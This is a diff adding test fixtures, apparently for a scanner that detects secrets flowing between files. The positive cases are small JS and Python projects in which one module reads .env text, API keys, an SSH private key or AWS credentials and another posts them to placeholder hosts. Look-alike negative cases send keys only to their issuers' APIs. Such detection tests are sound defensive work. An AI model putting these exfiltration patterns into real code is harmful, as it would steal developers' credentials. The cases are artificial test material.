@@ -309,3 +309,257 @@ export const downloadThenRead: Case[] = [
     },
   ],
 ];
+/** (b) a module returns or exports sensitive material; another file imports it and sends it */
+export const exportThenSend: Case[] = [
+  [
+    'js module returns the own .env text, client posts it',
+    {
+      'lib/config.js': lines(
+        "const fs = require('fs');",
+        "const path = require('path');",
+        'function loadConfig() {',
+        "  return fs.readFileSync(path.join(__dirname, '..', '.env'), 'utf8');",
+        '}',
+        'module.exports = { loadConfig };',
+      ),
+      'index.js': lines(
+        "const { loadConfig } = require('./lib/config');",
+        "fetch('https://collect.example.net/c', { method: 'POST', body: loadConfig() });",
+      ),
+    },
+  ],
+  [
+    'esm module exports the .env text as a constant',
+    {
+      'src/env.mjs': lines(
+        "import { readFileSync } from 'node:fs';",
+        "export const RAW = readFileSync(new URL('../.env', import.meta.url), 'utf8');",
+      ),
+      'src/main.mjs': lines(
+        "import { RAW } from './env.mjs';",
+        "await fetch('https://t.example.org/v1', { method: 'POST', body: JSON.stringify({ d: RAW }) });",
+      ),
+    },
+  ],
+  [
+    'py module function returns the own .env text, another posts it',
+    {
+      'scripts/settings.py': lines(
+        'import os',
+        'HERE = os.path.dirname(os.path.abspath(__file__))',
+        'def read_settings():',
+        '    with open(os.path.join(HERE, "..", ".env")) as f:',
+        '        return f.read()',
+      ),
+      'scripts/sync.py': lines(
+        'import requests',
+        'from .settings import read_settings',
+        'requests.post("https://collect.example.com/s", data={"cfg": read_settings()})',
+      ),
+    },
+  ],
+  [
+    'py module constant holds an issuer key, another sends it elsewhere',
+    {
+      'scripts/keys.py': lines('import os', 'OPENAI_KEY = os.environ["OPENAI_API_KEY"]'),
+      'scripts/report.py': lines(
+        'import requests',
+        'from keys import OPENAI_KEY',
+        'requests.get("https://stats.example.net/ping", params={"k": OPENAI_KEY})',
+      ),
+    },
+  ],
+  [
+    'js module exports an issuer key getter, another sends it elsewhere',
+    {
+      'lib/auth.js': lines('exports.apiKey = () => process.env.ANTHROPIC_API_KEY;'),
+      'main.js': lines(
+        "const auth = require('./lib/auth');",
+        "fetch('https://hook.example.org/in', { method: 'POST', headers: { 'x-k': auth.apiKey() } });",
+      ),
+    },
+  ],
+  [
+    'py module returns ~/.ssh key text, another posts it',
+    {
+      'scripts/util.py': lines(
+        'import os',
+        'def ident():',
+        '    return open(os.path.expanduser("~/.ssh/id_ed25519")).read()',
+      ),
+      'scripts/main.py': lines(
+        'import requests',
+        'from util import ident',
+        'requests.post("https://keys.example.com/k", json={"id": ident()})',
+      ),
+    },
+  ],
+  [
+    'js module returns ~/.aws/credentials, two hops to the sender',
+    {
+      'lib/read.js': lines(
+        "const fs = require('fs'); const os = require('os');",
+        "exports.creds = () => fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');",
+      ),
+      'lib/payload.js': lines(
+        "const { creds } = require('./read');",
+        'exports.build = () => ({ c: creds(), t: Date.now() });',
+      ),
+      'index.js': lines(
+        "const { build } = require('./lib/payload');",
+        "fetch('https://drop.example.test/x', { method: 'PUT', body: JSON.stringify(build()) });",
+      ),
+    },
+  ],
+  [
+    'js async ESM helper returns the own .env text, awaited into a body',
+    {
+      'lib/env.mjs': lines(
+        "import { readFile } from 'node:fs/promises';",
+        'export async function envText() {',
+        "  return await readFile(new URL('../.env', import.meta.url), 'utf8');",
+        '}',
+      ),
+      'main.mjs': lines(
+        "import { envText } from './lib/env.mjs';",
+        "await fetch('https://sink.example.com/e', { method: 'POST', body: await envText() });",
+      ),
+    },
+  ],
+  [
+    'js config object exports an issuer key, client sends it to another host',
+    {
+      'lib/config.js': lines('module.exports = { apiKey: process.env.OPENAI_API_KEY };'),
+      'index.js': lines(
+        "const cfg = require('./lib/config');",
+        "fetch('https://stats.example.net/v', { method: 'POST', body: JSON.stringify({ k: cfg.apiKey }) });",
+      ),
+    },
+  ],
+  [
+    'py module constant holds the own .env text read with pathlib',
+    {
+      'scripts/settings.py': lines(
+        'from pathlib import Path',
+        'RAW = (Path(__file__).parent / ".env").read_text()',
+      ),
+      'scripts/upload.py': lines(
+        'import httpx',
+        'from .settings import RAW',
+        'httpx.post("https://collect.example.org/u", content=RAW)',
+      ),
+    },
+  ],
+  [
+    'py package import: from lib import secrets module, module attribute sent',
+    {
+      'lib/__init__.py': '',
+      'lib/secrets_src.py': lines('import os', 'TOKEN = os.getenv("GITHUB_TOKEN")'),
+      'main.py': lines(
+        'import requests',
+        'from lib import secrets_src',
+        'requests.post("https://paste.example.com/p", data=secrets_src.TOKEN)',
+      ),
+    },
+  ],
+];
+
+/** (b) look-alikes: a config helper and a client sending one key to its own issuer */
+export const exportThenOwnApi: Case[] = [
+  [
+    'py helper returns the GitHub token, client calls api.github.com',
+    {
+      'scripts/auth.py': lines(
+        'import os',
+        'def token():',
+        '    return os.environ.get("GITHUB_TOKEN", "")',
+      ),
+      'scripts/issues.py': lines(
+        'import requests',
+        'from auth import token',
+        'r = requests.get("https://api.github.com/repos/o/r/issues", headers={"Authorization": f"Bearer {token()}"})',
+        'print(len(r.json()))',
+      ),
+    },
+  ],
+  [
+    'js helper parses the own .env, client sends one key to its service',
+    {
+      'lib/env.mjs': lines(
+        "import { readFileSync } from 'node:fs';",
+        "import dotenv from 'dotenv';",
+        "export const env = () => dotenv.parse(readFileSync(new URL('../.env', import.meta.url)));",
+      ),
+      'main.mjs': lines(
+        "import { env } from './lib/env.mjs';",
+        "await fetch('https://api.openai.com/v1/models', { headers: { Authorization: `Bearer ${env().OPENAI_API_KEY}` } });",
+      ),
+    },
+  ],
+  [
+    'js config helper, client sends the OpenAI key to api.openai.com',
+    {
+      'lib/config.js': lines(
+        "require('dotenv').config({ path: require('path').join(__dirname, '..', '.env') });",
+        'module.exports = { apiKey: process.env.OPENAI_API_KEY, model: "gpt-4o-mini" };',
+      ),
+      'index.js': lines(
+        "const cfg = require('./lib/config');",
+        "fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { Authorization: `Bearer ${cfg.apiKey}` }, body: JSON.stringify({ model: cfg.model }) });",
+      ),
+    },
+  ],
+  [
+    'py config helper, client sends the Anthropic key to api.anthropic.com',
+    {
+      'scripts/config.py': lines(
+        'import os',
+        'from dotenv import load_dotenv',
+        'load_dotenv(os.path.join(os.path.dirname(__file__), "..", ".env"))',
+        'def api_key():',
+        '    return os.environ["ANTHROPIC_API_KEY"]',
+      ),
+      'scripts/ask.py': lines(
+        'import requests',
+        'from config import api_key',
+        'r = requests.post("https://api.anthropic.com/v1/messages", headers={"x-api-key": api_key()}, json={"max_tokens": 10})',
+        'print(r.json())',
+      ),
+    },
+  ],
+  [
+    'py helper parses .env, client sends one key to its service',
+    {
+      'scripts/envfile.py': lines(
+        'import os',
+        'def load():',
+        '    out = {}',
+        '    with open(os.path.join(os.path.dirname(__file__), ".env")) as f:',
+        '        for line in f:',
+        '            k, _, v = line.strip().partition("=")',
+        '            out[k] = v',
+        '    return out',
+      ),
+      'scripts/send.py': lines(
+        'import requests',
+        'from envfile import load',
+        'cfg = load()',
+        'requests.get("https://api.github.com/user", headers={"Authorization": "token " + cfg["GITHUB_TOKEN"]})',
+      ),
+    },
+  ],
+  [
+    'js helper reads a shipped prompt file, client posts it to its own API',
+    {
+      'lib/prompt.js': lines(
+        "const fs = require('fs'); const path = require('path');",
+        "exports.prompt = () => fs.readFileSync(path.join(__dirname, 'prompt.txt'), 'utf8');",
+      ),
+      'lib/prompt.txt': 'Summarise the text.\n',
+      'index.js': lines(
+        "const { prompt } = require('./lib/prompt');",
+        "fetch('https://api.openai.com/v1/responses', { method: 'POST', headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` }, body: JSON.stringify({ input: prompt() }) });",
+      ),
+    },
+  ],
+];
